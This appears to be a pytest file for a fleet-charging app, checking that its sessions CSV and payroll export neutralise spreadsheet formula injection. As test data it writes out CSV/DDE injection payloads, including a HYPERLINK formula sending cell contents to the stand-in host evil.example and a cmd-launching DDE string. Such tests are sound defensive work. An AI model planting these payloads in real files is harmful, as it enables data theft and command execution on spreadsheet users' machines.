"""Formula cells: what a driver or an import controls never reaches a spreadsheet as a formula, in the
sessions CSV and in the payroll export; numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlmodel import select

sys.path.insert(0, str(Path(__file__).parent))

from helpers import bearer, guarded_api

from pipelet_app.api.ratelimit import limiter_for
from pipelet_app.db import session_scope
from pipelet_app.db.models import Driver
from pipelet_app.domain.csv_cells import TRIGGERS

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PROVIDER = "@SUM(1+1)*cmd|' /C calc'!A0"
STATION = "+DE*ION*E1"
WHEN = (datetime.now(UTC) - timedelta(days=40)).replace(day=3, hour=10, minute=0, second=0, microsecond=0)
MONTH = WHEN.strftime("%Y-%m")


@pytest.fixture
def client(demo: dict) -> Iterator[TestClient]:
    limiter_for.cache_clear()
    with session_scope() as db:
        driver = db.exec(select(Driver).where(Driver.email == "driver@acme.demo")).one()
        driver.name = EVIL_NAME
        db.add(driver)
    with TestClient(guarded_api(), raise_server_exceptions=False) as test_client:
        yield test_client


def _import(client: TestClient, key: dict) -> None:
    body = (
        "driver_email,start_utc,energy_kwh,station_id,provider\n"
        f"driver@acme.demo,{WHEN.isoformat()},12.5,{STATION},{PROVIDER}\n"
    )
    answer = client.post(
        "/api/v1/fleet/imports/public-sessions",
        content=body.encode(),
        headers={**key, "Content-Type": "text/csv"},
    ).json()
    assert answer["imported"] == 1, answer


def _assert_no_formula(rows: list[dict]) -> None:
    for row in rows:
        for column, value in row.items():
            if value.startswith(TRIGGERS):
                float(value)  # only a plain number may start with a sign
                assert column, value


def test_sessions_csv_neutralises_imported_text(client: TestClient) -> None:
    key = bearer("fleet@acme.demo")
    _import(client, key)
    start, end = (WHEN - timedelta(days=1)).isoformat(), (WHEN + timedelta(days=1)).isoformat()
    text = client.get("/api/v1/fleet/sessions.csv", params={"from": start, "to": end}, headers=key).text
    rows = list(csv.DictReader(io.StringIO(text)))
    imported = next(r for r in rows if r["source"] == "public")
    assert imported["id_tag"] == "'" + PROVIDER and imported["station_id"] == "'" + STATION
    assert float(imported["energy_wh"]) == 12_500
    _assert_no_formula(rows)


def test_payroll_export_neutralises_the_drivers_own_name(client: TestClient) -> None:
    key = bearer("fleet@acme.demo")
    _import(client, key)
    client.put("/api/v1/fleet/reimbursement/rates/public", json={"rate_per_kwh": "0.40"}, headers=key)
    drafts = client.post(
        "/api/v1/fleet/reimbursement/statements", params={"month": MONTH}, headers=key
    ).json()
    mine = next(
        s
        for s in drafts
        if s["session_count"] > 0
        and any(line["source"] == "public" and line["sessions"] for line in s["lines"])
    )
    assert (
        client.post(f"/api/v1/fleet/reimbursement/statements/{mine['id']}/approve", headers=key).status_code
        == 200
    )
    exported = client.post("/api/v1/fleet/reimbursement/export", params={"month": MONTH}, headers=key)
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    names = {r["driver_name"] for r in rows}
    assert "'" + EVIL_NAME in names and EVIL_NAME not in names
    public = next(r for r in rows if r["driver_name"] == "'" + EVIL_NAME and r["source"] == "public")
    assert float(public["energy_kwh"]) >= 12.5 and float(public["amount"]) >= 5.0
    _assert_no_formula(rows)
